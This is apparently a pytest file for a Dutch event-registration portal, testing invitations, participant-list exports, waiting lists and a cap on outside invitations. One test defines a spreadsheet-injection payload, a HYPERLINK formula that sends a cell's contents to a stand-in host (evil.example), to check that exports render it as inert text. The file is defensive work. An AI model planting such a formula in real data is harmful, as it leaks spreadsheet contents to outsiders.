"""Invitations in the background with per-person status; the registration list, exports,
adding and removing by hand, and a message to all participants."""

import csv
import io
import re
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from zoneinfo import ZoneInfo

import pytest
from conftest import make_event, make_user
from openpyxl import load_workbook
from sqlalchemy import select

from leerhuis.demo.seed import seed_demo
from leerhuis.extensions import db
from leerhuis.models import (
    AuditEvent,
    Event,
    EventSession,
    EventStatus,
    EventType,
    Invitation,
    Organisation,
    OrganisationType,
    OutboxMessage,
    ProgrammeStatus,
    ProgrammeYear,
    Registration,
    RegistrationStatus,
    TargetGroup,
    User,
    utcnow,
)
from leerhuis.services import invitations, registrations
from leerhuis.services.registrations import RegistrationInput
from leerhuis.tasks import send_invitations


@pytest.fixture
def event(region, provider):
    starts = utcnow() + timedelta(days=20)
    event_type = db.session.scalars(select(EventType).where(EventType.code == "training")).one()
    event = Event(region_id=region.id, type=event_type, organisation=provider,
                  programme_year=starts.year, status=EventStatus.PUBLISHED, title="Training X",
                  address="Plein 1", city="Huizen", capacity=2, published_at=utcnow())
    event.sessions = [EventSession(starts_at=starts, ends_at=starts + timedelta(hours=3),
                                   net_hours=Decimal(3))]
    db.session.add(event)
    db.session.add(ProgrammeYear(region_id=region.id, year=starts.year,
                                 status=ProgrammeStatus.PUBLISHED))
    db.session.commit()
    return event


def test_invitations_reach_the_right_people_once_and_show_their_status(
        event, region, provider, municipality_team, deelnemer, organisator, as_organisator,
        smtp, deliver_mail):
    consultants = db.session.scalars(select(TargetGroup).where(
        TargetGroup.slug == "jeugdconsulenten")).one()
    deelnemer.target_group_id = consultants.id
    colleague = make_user(region, "collega@example.org", organisation=municipality_team)
    registered = make_user(region, "al@example.org", organisation=municipality_team)
    registrations.register(event.id, registered, RegistrationInput())
    db.session.commit()

    bad = as_organisator.post(f"/activiteiten/{event.id}/uitnodigen",
                              data={"emails": "geen-adres\nextern@example.org"})
    assert bad.status_code == 400
    assert "geen-adres" in bad.text
    assert "ongeldig" in bad.text

    response = as_organisator.post(f"/activiteiten/{event.id}/uitnodigen", data={
        "target_group_ids": str(consultants.id), "organisation_ids": str(municipality_team.id),
        "emails": "Extern@Example.org, deelnemer@example.org", "message": "Graag tot dan!"})
    assert response.status_code == 302
    batch_id = int(response.headers["Location"].rsplit("/", 1)[1])
    emails = set(
        db.session.scalars(select(Invitation.email).where(Invitation.batch_id == batch_id))
    )
    assert emails == {"deelnemer@example.org", "collega@example.org", "extern@example.org"}

    send_invitations.call_local(batch_id)
    send_invitations.call_local(batch_id)  # a retried task adds nothing
    assert db.session.scalar(select(db.func.count()).select_from(OutboxMessage).where(
        OutboxMessage.kind == "invitation")) == 3
    deliver_mail()
    (mail,) = smtp.to("extern@example.org")
    assert f"/activiteiten/{event.id}" in mail.text()
    assert "/registreren" in mail.text()
    assert "Graag tot dan!" in mail.text()

    registrations.register(event.id, colleague, RegistrationInput())
    db.session.commit()
    page = as_organisator.get(f"/uitnodigingen/{batch_id}").text
    assert re.search(r"collega@example.org</td><td>[^<]*</td><td>aangemeld", page)
    assert re.search(r"extern@example.org</td><td>nee</td><td>verzonden", page)


def test_only_the_region_invites_to_the_whole_programme(client, auth, organisator, regio_admin,
                                                         region, deelnemer):
    year = utcnow().year
    auth.login(organisator)
    assert client.get(f"/regio/uitnodigen/{year}").status_code == 403
    auth.logout()
    auth.login(regio_admin)
    draft = client.post(f"/regio/uitnodigen/{year}", data={"emails": deelnemer.email})
    assert draft.status_code == 400
    assert "nog niet gepubliceerd" in draft.text
    db.session.add(ProgrammeYear(region_id=region.id, year=year,
                                 status=ProgrammeStatus.PUBLISHED))
    db.session.commit()
    response = client.post(f"/regio/uitnodigen/{year}", data={"emails": deelnemer.email})
    assert response.status_code == 302


def test_participant_list_exports_match_the_screen_and_hide_names_without_consent(
        event, region, municipality_team, deelnemer, as_organisator):
    registrations.register(event.id, deelnemer, RegistrationInput(consent_share_name=True))
    shy = make_user(region, "stil@example.org", organisation=municipality_team,
                    first_name="Stille", last_name="Deelnemer")
    registrations.register(event.id, shy, RegistrationInput(consent_share_name=False))
    db.session.commit()
    page = as_organisator.get(f"/activiteiten/{event.id}/deelnemers").text
    assert deelnemer.full_name in page
    assert "Stille" not in page
    assert "Deelnemer 2" in page
    rows = list(csv.reader(io.StringIO(
        as_organisator.get(f"/activiteiten/{event.id}/deelnemers.csv").data.decode("utf-8-sig")),
        delimiter=";"))
    sheet = load_workbook(io.BytesIO(
        as_organisator.get(f"/activiteiten/{event.id}/deelnemers.xlsx").data)).active
    cells = [
        [("" if c is None else str(c)) for c in row] for row in sheet.iter_rows(values_only=True)
    ]
    assert rows == cells
    assert {row[0] for row in rows[1:]} == {deelnemer.full_name, "Deelnemer 2"}


FORMULA = '=HYPERLINK("https://evil.example/?d="&A2,"Klik hier")'


def test_what_people_type_stays_text_in_exports_never_a_formula(event, deelnemer,
                                                                 as_organisator):
    """A job title typed as a formula must not run in the organiser's spreadsheet: XLSX
    writes it as text, CSV puts an apostrophe before it (OWASP's advice against CSV
    injection); other text is as typed."""
    registrations.register(event.id, deelnemer, RegistrationInput(
        consent_share_name=True, function=FORMULA, municipality_name="-Huizen"))
    db.session.commit()
    rows = list(csv.reader(io.StringIO(
        as_organisator.get(f"/activiteiten/{event.id}/deelnemers.csv").data.decode("utf-8-sig")),
        delimiter=";"))
    assert "'" + FORMULA in rows[1]
    assert "'-Huizen" in rows[1]
    assert deelnemer.full_name in rows[1]
    sheet = load_workbook(io.BytesIO(
        as_organisator.get(f"/activiteiten/{event.id}/deelnemers.xlsx").data)).active
    cells = {cell.value: cell.data_type for cell in sheet[2]}
    assert cells[FORMULA] == cells["-Huizen"] == cells[deelnemer.full_name] == "s"


def test_adding_by_hand_respects_capacity_and_removal_promotes_the_waiting_list(
        event, region, municipality_team, as_organisator, deelnemer):
    people = [make_user(region, f"p{i}@example.org", organisation=municipality_team)
              for i in range(3)]
    for person in people:
        as_organisator.post(f"/activiteiten/{event.id}/deelnemers",
                            data={"toevoegen-email": person.email})
    unknown = as_organisator.post(f"/activiteiten/{event.id}/deelnemers",
                                  data={"toevoegen-email": "onbekend@example.org"})
    assert unknown.status_code == 400
    assert "geen account" in unknown.text
    assert 'value="onbekend@example.org"' in unknown.text
    statuses = [registrations.registration_for(event, p).status for p in people]
    assert statuses == [RegistrationStatus.CONFIRMED] * 2 + [RegistrationStatus.WAITLISTED]
    first = registrations.registration_for(event, people[0])
    as_organisator.post(f"/activiteiten/{event.id}/deelnemers/{first.id}/verwijderen")
    db.session.expire_all()
    assert registrations.registration_for(event, people[2]).status is RegistrationStatus.CONFIRMED


def test_a_message_reaches_each_confirmed_participant_once(event, region, municipality_team,
                                                           as_organisator, smtp, deliver_mail):
    people = [make_user(region, f"m{i}@example.org", organisation=municipality_team)
              for i in range(3)]
    for person in people:
        registrations.register(event.id, person, RegistrationInput())
    db.session.commit()
    deliver_mail()
    smtp.messages.clear()
    as_organisator.post(f"/activiteiten/{event.id}/deelnemers",
                        data={"bericht-subject": "Parkeren", "bericht-body": "Parkeer achter."})
    deliver_mail()
    assert sorted(m.recipients[0] for m in smtp.messages) == ["m0@example.org", "m1@example.org"]
    assert all("Parkeer achter." in m.text() for m in smtp.messages)


@pytest.mark.parametrize("status", [EventStatus.CONCEPT, EventStatus.SUBMITTED])
def test_invitations_to_an_unpublished_event_are_refused_with_a_reason(
        event, status, as_organisator):
    event.status = status
    db.session.commit()
    page = as_organisator.get(f"/activiteiten/{event.id}/uitnodigen")
    assert "nog niet gepubliceerd" in page.text
    response = as_organisator.post(f"/activiteiten/{event.id}/uitnodigen",
                                   data={"emails": "iemand@example.org"})
    assert response.status_code == 400
    assert "nog niet gepubliceerd" in response.text
    assert db.session.scalar(select(db.func.count()).select_from(Invitation)) == 0


def test_invitations_to_an_event_of_a_draft_programme_year_are_refused(event, as_organisator):
    db.session.scalars(select(ProgrammeYear)).one().status = ProgrammeStatus.DRAFT
    db.session.commit()
    response = as_organisator.post(f"/activiteiten/{event.id}/uitnodigen",
                                   data={"emails": "iemand@example.org"})
    assert response.status_code == 400
    assert db.session.scalar(select(db.func.count()).select_from(Invitation)) == 0


def test_a_doelgroep_chosen_at_sign_up_or_in_the_profile_is_reached_by_invitations(
        event, region, municipality_team, client, auth, deelnemer, as_organisator):
    groups = {g.slug: g for g in db.session.scalars(select(TargetGroup))}
    # Choosing a doelgroep in the profile...
    as_organisator.post("/uitloggen")
    auth.login(deelnemer)
    page = client.get("/profiel").text
    assert 'name="target_group_id"' in page
    client.post("/profiel", data={
        "first_name": deelnemer.first_name, "last_name": deelnemer.last_name,
        "function": deelnemer.function, "organisation_id": str(municipality_team.id),
        "municipality_id": str(deelnemer.municipality_id), "preferred_language": "nl",
        "target_group_id": str(groups["gezinsvoogden"].id)})
    db.session.refresh(deelnemer)
    assert deelnemer.target_group_id == groups["gezinsvoogden"].id
    client.post("/uitloggen")
    # ... and at sign-up (optional).
    assert 'name="target_group_id"' in client.get("/registreren").text
    client.post("/registreren", data={
        "email": "nieuw@example.org", "password": "lange zin met woorden",
        "password_repeat": "lange zin met woorden", "first_name": "Nieuwe",
        "last_name": "Voogd", "target_group_id": str(groups["gezinsvoogden"].id),
        "preferred_language": "nl"})
    newcomer = db.session.scalars(select(User).where(User.email == "nieuw@example.org")).one()
    assert newcomer.target_group_id == groups["gezinsvoogden"].id
    newcomer.email_verified_at = utcnow()  # invitations go to verified accounts
    db.session.commit()
    recipients = invitations.resolve_recipients(region, invitations.Targets(
        target_group_ids=[groups["gezinsvoogden"].id]))
    assert set(recipients) == {deelnemer.email, "nieuw@example.org"}


def test_the_demo_data_gives_professionals_a_doelgroep(app):
    seed_demo(professionals=12)
    demo = db.session.scalars(select(User).where(User.email == "deelnemer@example.org")).one()
    assert demo.target_group_id is not None
    with_group = db.session.scalar(select(db.func.count()).select_from(User).where(
        User.target_group_id.is_not(None)))
    assert with_group >= 12


def test_the_export_gives_the_registration_time_in_amsterdam(event, deelnemer, as_organisator):
    registration = registrations.register(event.id, deelnemer, RegistrationInput(
        consent_share_name=True))
    # 23:30 UTC on 31 March is 01:30 on 1 April in Amsterdam (summer time).
    registration.registered_at = datetime(2027, 3, 31, 23, 30, tzinfo=UTC)
    db.session.commit()
    rows = list(csv.reader(io.StringIO(
        as_organisator.get(f"/activiteiten/{event.id}/deelnemers.csv").data.decode("utf-8-sig")),
        delimiter=";"))
    column = rows[0].index("aangemeld op")
    assert rows[1][column] == "2027-04-01 01:30"


def test_invitations_by_organisation_type_and_municipality_reach_only_the_regions_people(
        region, other_region, provider, municipality_team):
    hilversum, huizen = region.municipalities[0], region.municipalities[1]
    elsewhere = Organisation(name="Zorg Elders", type=OrganisationType.ZORGAANBIEDER,
                             region=other_region)
    db.session.add(elsewhere)
    db.session.commit()
    carer = make_user(region, "zorg@example.org", organisation=provider)
    team_member = make_user(region, "team@example.org", organisation=municipality_team)
    team_member.municipality = huizen
    make_user(region, "onbevestigd@example.org", organisation=provider, verified=False)
    make_user(region, "gestopt@example.org", organisation=provider, is_active_account=False)
    outsider = make_user(other_region, "elders@example.org", organisation=elsewhere)
    db.session.commit()

    by_type = invitations.resolve_recipients(region, invitations.Targets(
        organisation_types=[OrganisationType.ZORGAANBIEDER.value]))
    assert by_type == {"zorg@example.org": carer.id}

    by_municipality = invitations.resolve_recipients(region, invitations.Targets(
        municipality_ids=[huizen.id]))
    assert by_municipality == {"team@example.org": team_member.id}
    assert hilversum.id != huizen.id

    both = invitations.resolve_recipients(region, invitations.Targets(
        organisation_types=[OrganisationType.ZORGAANBIEDER.value], municipality_ids=[huizen.id],
        emails=["elders@example.org"]))
    assert both == {"zorg@example.org": carer.id, "team@example.org": team_member.id,
                    "elders@example.org": outsider.id}


def test_invitations_to_outside_addresses_are_capped_per_day_and_logged_for_the_region(
        app, event, organisator, as_organisator, regio_admin, auth, monkeypatch):
    """An organiser cannot use the portal to mail any number of strangers: addresses that
    belong to nobody in the region count against a daily cap, and the Region's audit log
    says who invited which of them."""
    monkeypatch.setitem(app.config, "OUTSIDE_INVITATIONS_PER_DAY", 3)
    first = as_organisator.post(f"/activiteiten/{event.id}/uitnodigen",
                                data={"emails": "a@extern.example\nb@extern.example"})
    assert first.status_code == 302
    over = as_organisator.post(f"/activiteiten/{event.id}/uitnodigen",
                               data={"emails": "c@extern.example\nd@extern.example"})
    assert over.status_code == 400
    assert ("Je kunt vandaag nog 1 adres van buiten de regio uitnodigen (ten hoogste 3 per "
            "dag); je gaf er 2 op. Nodig de rest morgen uit, of vraag de regio.") in over.text
    assert db.session.scalar(select(db.func.count()).select_from(Invitation)) == 2

    (logged,) = db.session.scalars(select(AuditEvent).where(
        AuditEvent.action == "invitation.outside_addresses")).all()
    assert logged.actor_id == organisator.id
    assert logged.subject == f"event:{event.id}"
    assert logged.details["addresses"] == ["a@extern.example", "b@extern.example"]
    assert logged.region_id == event.region_id
    auth.logout()
    auth.login(regio_admin)
    page = as_organisator.get("/regio/audit").text
    assert "adressen van buiten de regio uitgenodigd" in page
    assert "a@extern.example, b@extern.example" in page


# --- The participant list ----------------------------------------------------------------


def test_the_participant_list_pages_and_keeps_waiting_list_places(as_organisator, region,
                                                                  provider):
    event = make_event(
        region, provider, title="Grote spiegelbijeenkomst", capacity=50, published_at=utcnow()
    )
    start = utcnow() - timedelta(days=1)
    for n in range(53):
        user = make_user(region, f"deelnemer{n:02d}@example.org", first_name=f"Persoon{n:02d}",
                         last_name="Test")
        waiting = n >= 50
        db.session.add(Registration(
            event_id=event.id, user_id=user.id, consent_share_name=True,
            status=RegistrationStatus.WAITLISTED if waiting else RegistrationStatus.CONFIRMED,
            registered_at=start + timedelta(minutes=n),
            waitlisted_at=start + timedelta(minutes=n) if waiting else None))
    db.session.commit()
    url = f"/activiteiten/{event.id}/deelnemers"
    first = as_organisator.get(url).get_data(as_text=True)
    assert "53 aanmeldingen" in first
    assert f'href="{url}?page=2"' in first
    assert first.count("<tr><td>") == 50
    second = as_organisator.get(f"{url}?page=2").get_data(as_text=True)
    assert second.count("<tr><td>") == 3
    # Persoon52 joined the waiting list last: third in line, whatever page it is on.
    assert re.search(r"Persoon52 Test</td>.*?op de wachtlijst \(3\)", second, re.DOTALL)


def test_the_participant_list_says_until_when_an_offered_place_is_held(as_organisator, region,
                                                                       provider):
    event = make_event(
        region, provider, title="Training met wachtlijst", capacity=1, published_at=utcnow()
    )
    user = make_user(region, "aangeboden@example.org", first_name="Aan", last_name="Geboden")
    until = datetime(2026, 12, 3, 15, 30, tzinfo=ZoneInfo("Europe/Amsterdam"))
    db.session.add(Registration(event_id=event.id, user_id=user.id, consent_share_name=True,
                                status=RegistrationStatus.OFFERED, registered_at=utcnow(),
                                offered_until=until))
    db.session.commit()
    page = as_organisator.get(f"/activiteiten/{event.id}/deelnemers").get_data(as_text=True)
    assert re.search(r"Aan Geboden</td>.*?plaats aangeboden \(tot [^)]*3 december 2026[^)]*15:30\)",
                     page, re.DOTALL), page
